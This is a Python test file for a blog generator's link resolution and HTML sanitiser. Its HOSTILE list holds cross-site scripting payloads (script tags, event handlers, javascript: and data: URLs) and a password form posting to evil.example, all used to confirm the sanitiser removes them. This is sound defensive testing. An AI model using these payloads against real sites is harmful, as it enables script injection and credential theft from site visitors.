"""References in texts: where they lead in this build, on pages and in feeds; and that feeds are safe."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wol.model.item import Body, Callout, Close, Link, Open, Part, Place
from wol.render.sanitise import sanitise

Make = Callable[..., Any]


def content(made: Any, key: str = "posts/a.md", *, absolute: bool = False) -> str:
    html: str = made.views.content(key, absolute=absolute)
    return html


def text(*parts: Part, links: tuple[Link, ...] = ()) -> dict[str, Body]:
    """Give the bodies of a site whose one post has these pieces."""
    return {"posts/a.md": Body(parts=parts, links=links)}


def test_a_link_to_an_item(blog: Make, item: Make) -> None:
    """It leads to the item's URL with the base path, its query and its fragment."""
    link = Link("link", "b.md?x=1&y#ü", path="posts/b.md", query="x=1&y", fragment="ü")
    made = blog("", item(), item("posts/b.md"), bodies=text("<p>", Open(0, ' class="c"'), "b", Close(), "</p>", links=(link,)))
    assert content(made) == '<p><a href="/blog/b/?x=1&amp;y#%C3%BC" class="c">b</a></p>'
    assert content(made, absolute=True) == '<p><a href="https://example.org/blog/b/?x=1&amp;y#%C3%BC" class="c">b</a></p>'


@pytest.mark.parametrize("fields", [{}, {"draft": True}, {"private": True}, {"gone": True}, {"day": "2099-01-01"}])
def test_a_link_to_a_text_that_is_missing(blog: Make, item: Make, fields: dict[str, Any]) -> None:
    """A missing and an unpublished text look alike: the words of the link alone (5.2)."""
    link = Link("link", "hidden.md", path="posts/hidden.md")
    hidden = (item("posts/hidden.md", **fields),) if fields else ()
    made = blog(
        "", item(), *hidden, bodies=text(Open(0, ' title="t"'), "<em>words</em>", Close(), " ", Open(0), "x", Close(), links=(link,))
    )
    assert content(made) == '<span class="missing"><em>words</em></span> <span class="missing">x</span>'


def test_a_link_that_is_missing_is_recorded(blog: Make, item: Make) -> None:
    """A file that appears later wakes the page that missed it."""
    made = blog("{{ page.content }}", item(), bodies=text(Open(0), "x", Close(), links=(Link("link", "b.md", path="posts/b.md"),)))
    made.html(subject="posts/a.md")
    assert ("paths", "posts/b.md") in made.names


def test_attachments(blog: Make, item: Make) -> None:
    """A published file has its URL; a missing one stays as typed."""
    here, gone = Link("image", "p.jpg", path="posts/p.jpg"), Link("link", "q%20q.pdf", path="posts/q q.pdf")
    bodies = text('<img src="', Place(0), '"><a href="', Place(1), '">q</a>', links=(here, gone))
    made = blog("", item(links=(here, gone)), attachments=("posts/p.jpg",), bodies=bodies)
    assert content(made) == '<img src="/blog/posts/p.jpg"><a href="q%20q.pdf">q</a>'
    assert content(made, absolute=True) == (
        '<img src="https://example.org/blog/posts/p.jpg"><a href="https://example.org/blog/a/q%20q.pdf">q</a>'
    )


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("/archive/?q#f", "/blog/archive/?q#f"),
        ("/blog/archive/", "/blog/archive/"),
        ("/blog/own/", "/blog/blog/own/"),
        ("/blogging/", "/blog/blogging/"),
    ],
)
def test_url_paths_get_the_base_path_once(blog: Make, item: Make, raw: str, expected: str) -> None:
    """A URL path of the site gets the path of `base_url`, unless it has it already and nothing lies there."""
    path, _, fragment = raw.partition("#")
    url, _, query = path.partition("?")
    link = Link("link", raw, path=url.strip("/"), url=url, query=query, fragment=fragment)
    made = blog("", item(), item("own.md", url="/blog/own/", kind="page"), bodies=text('<a href="', Place(0), '">x</a>', links=(link,)))
    assert content(made) == f'<a href="{expected}">x</a>'
    assert content(made, absolute=True) == f'<a href="https://example.org{expected}">x</a>'


def test_a_file_of_static(blog: Make, item: Make) -> None:
    """A path from the root that is no source may be a file of `static/`."""
    link = Link("image", "/img/a.png", path="img/a.png", url="/img/a.png")
    made = blog("", item(), static=("img/a.png",), bodies=text('<img src="', Place(0), '">', links=(link,)))
    assert content(made) == '<img src="/blog/img/a.png">'


def test_urls_cannot_leave_their_attribute(blog: Make, item: Make) -> None:
    """Quotes and the like in a file name are escaped, found or not."""
    for path in ('posts/"><script>.md', "posts/\"'><x>.pdf"):
        link = Link("link", path, path=path)
        made = blog(
            "",
            item(),
            item(path, url='/"><script>/') if path.endswith(".md") else item("posts/b.md"),
            bodies=text(Open(0), "x", Close(), links=(link,)),
        )
        assert "<script>" not in content(made)
        assert "<x>" not in content(made)


def test_fragments_inside_a_page(blog: Make, item: Make) -> None:
    """Footnotes of our own markup stay on the page, and lead to it from a feed."""
    made = blog("", item(), bodies=text('<a class="footnote-ref" href="#fn1">1</a><code>href=&quot;#x&quot;</code>'))
    assert content(made) == '<a class="footnote-ref" href="#fn1">1</a><code>href=&quot;#x&quot;</code>'
    assert 'href="#fn1"' not in content(made, absolute=True)
    assert "<code>href=&quot;#x&quot;</code>" in content(made, absolute=True)


def test_pages_carry_the_writers_html(blog: Make, item: Make) -> None:
    """On its own page the writer's HTML passes; in feeds it is sanitised (fault C13)."""
    html = '<p onclick="x()">a<script>alert(1)</script><img src=x onerror=y></p>'
    made = blog("", item(raw_html=True), bodies=text(html))
    assert content(made) == html
    assert content(made, absolute=True) == '<p>a<img src="https://example.org/blog/a/x"></p>'


def test_our_own_markup_is_not_parsed_again(blog: Make, item: Make) -> None:
    """A text without HTML of its own goes into feeds as it is."""
    made = blog("", item(), bodies=text('<pre class="highlight"><code><span class="k">if</span></code></pre>'))
    assert content(made, absolute=True) == '<pre class="highlight"><code><span class="k">if</span></code></pre>'


def test_relative_urls_of_raw_html(blog: Make, item: Make) -> None:
    """Every attribute that holds a URL is made absolute from the page: relative, rooted, fragment, sets of sources, posters."""
    html = (
        '<a href="x/y.html">1</a><a href="#f">2</a><a href="/z/">3</a><a href="//h.example/">4</a><a href="mailto:a@b.example">5</a>'
        '<img srcset="s.jpg 1x, /l.jpg 2x"><video poster="p.png" src="v.mp4"></video>'
    )
    made = blog("", item(raw_html=True), bodies=text(html))
    shown = content(made, absolute=True)
    for url in ("/blog/a/x/y.html", "/blog/a/#f", "/blog/z/", "/blog/a/p.png", "/blog/a/v.mp4"):
        assert f'="https://example.org{url}"' in shown
    assert 'srcset="https://example.org/blog/a/s.jpg 1x, https://example.org/blog/l.jpg 2x"' in shown
    assert 'href="https://h.example/"' in shown
    assert 'href="mailto:a@b.example"' in shown


def test_excerpts(blog: Make, item: Make) -> None:
    """An excerpt has its links filled in, and is sanitised where the writer used HTML: lists must hold together."""
    link = Link("link", "b.md", path="posts/b.md")
    plain = item(excerpt=("<p>", Open(0), "b", Close(), "</p>"), excerpt_links=(link,))
    made = blog("{{ page.summary }}", plain, item("posts/b.md"))
    assert made.html(subject="posts/a.md") == '<p><a href="/blog/b/">b</a></p>'
    raw = item(excerpt=('<p id="x">a</article></main><style>p{}</style><a href="c.html">c</a>',), raw_html=True)
    made = blog("{{ page.summary }}", raw)
    assert made.html(subject="posts/a.md") == '<p>a<a href="c.html">c</a></p>'
    assert made.views.excerpt("posts/a.md", absolute=True) == '<p>a<a href="https://example.org/blog/a/c.html">c</a></p>'


def test_callouts_in_feeds(blog: Make, item: Make) -> None:
    """What a theme makes of a callout is safe and absolute in feeds too."""
    files = {"templates/callouts/tip.html": '<aside><script>x</script><a href="/more/">{{ callout.content }}</a></aside>'}
    made = blog("", item(), files=files, bodies=text(Callout("tip", (), ("in",))))
    assert content(made, absolute=True) == '<aside><a href="https://example.org/more/">in</a></aside>'.replace(".org/", ".org/blog/")


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>">x</a>',
    '<img src="data:text/html,x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg><script>alert(1)</script></svg>",
    "<style>@import 'x'</style>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<form action=//evil.example><input name=password><button>x</button></form>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<p style="position:fixed;background:url(//evil.example)">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- x",
    '<video><source onerror="alert(1)"></video>',
    '<a href="java\nscript:alert(1)">x</a>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_sanitised_html_is_safe(html: str) -> None:
    """Nothing that runs, loads a frame, asks for input or changes the page is left (fault C13)."""
    for shown in (sanitise(html), sanitise(html, lambda url: url)):
        lower = shown.lower()
        for word in (
            "<script",
            "onerror",
            "onload",
            "onclick",
            "<svg",
            "<style",
            "<base",
            "<meta",
            "<form",
            "<iframe",
            "<object",
            "<embed",
            "position",
            "srcdoc",
            "<!--",
        ):
            assert word not in lower
        assert "<input" not in lower
        assert 'href="java' not in lower
        assert 'src="java' not in lower
        assert "data:" not in lower or "<a href" not in lower
        assert "svg+xml" not in lower


def test_sanitised_html_keeps_what_readers_show() -> None:
    """Classes of highlighted code, tables, task lists, figures, sound and pictures in the text stay."""
    html = (
        '<pre class="highlight"><code><span class="k">if</span></code></pre><table><tbody><tr><td style="text-align:right">1</td></tr></tbody></table>'
        '<ul><li><input type="checkbox" checked="" disabled=""> done</li></ul><figure><img src="data:image/png;base64,AA" alt="x"><figcaption>c</figcaption></figure>'
        '<audio src="https://x.example/a.mp3" controls=""></audio><section class="footnotes"><ol><li id="fn1">n</li></ol></section>'
    )
    assert sanitise(html) == html
    assert sanitise('<b id="x">y</b>', ids=False) == "<b>y</b>"


def test_frames_become_links() -> None:
    """A film that is embedded is still reachable from a feed."""
    html = '<p>a</p><iframe width="560" src="https://video.example/embed/1?a=b&amp;c" allowfullscreen></iframe>'
    assert sanitise(html) == '<p>a</p><a href="https://video.example/embed/1?a=b&amp;c">https://video.example/embed/1?a=b&amp;c</a>'


@given(st.text(alphabet=st.sampled_from(list("<>/\"'= ascriptonerrorjvhf:#&;!-\n")), max_size=80))
def test_sanitising_twice_changes_nothing(html: str) -> None:
    """Whatever was typed, what comes out is stable: no second reading finds a tag that the first one did not."""
    once = sanitise(html)
    assert sanitise(once) == once
    assert "<script" not in once.lower()
